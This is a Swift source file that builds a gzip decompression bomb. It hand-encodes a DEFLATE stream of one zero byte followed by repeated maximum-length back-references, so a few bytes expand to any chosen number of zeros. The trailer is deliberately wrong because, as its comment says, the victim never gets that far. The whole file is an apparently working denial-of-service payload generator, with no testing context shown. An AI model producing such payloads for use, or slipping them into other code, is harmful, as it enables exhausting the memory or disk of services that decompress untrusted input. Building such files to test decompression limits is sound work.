/// Zeros in gzip's format (RFC 1952, RFC 1951), a few bytes for a great many.
struct GzipBomb {
    /// The compressed bytes.
    private(set) var bytes: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3]
    private var bits: UInt32 = 0
    private var bitCount: UInt32 = 0

    private static let matchLength = 258

    /// At least `count` zeros.
    init(zeros count: Int) {
        append(0b011, count: 3)
        // The byte 0 in the fixed code, and then again and again a match of the greatest length one byte back.
        append(0b0000_1100, count: 8)
        for _ in 0...count / Self.matchLength {
            append(0b1010_0011, count: 8)
            append(0, count: 5)
        }
        append(0, count: 7)
        append(0, count: 8)
        // Neither check nor length are right, which nobody lives to see.
        bytes += [UInt8](repeating: 0, count: 8)
    }

    private mutating func append(_ value: UInt32, count: UInt32) {
        bits |= value << bitCount
        bitCount += count
        while bitCount >= 8 {
            bytes.append(UInt8(truncatingIfNeeded: bits))
            bits >>= 8
            bitCount -= 8
        }
    }
}
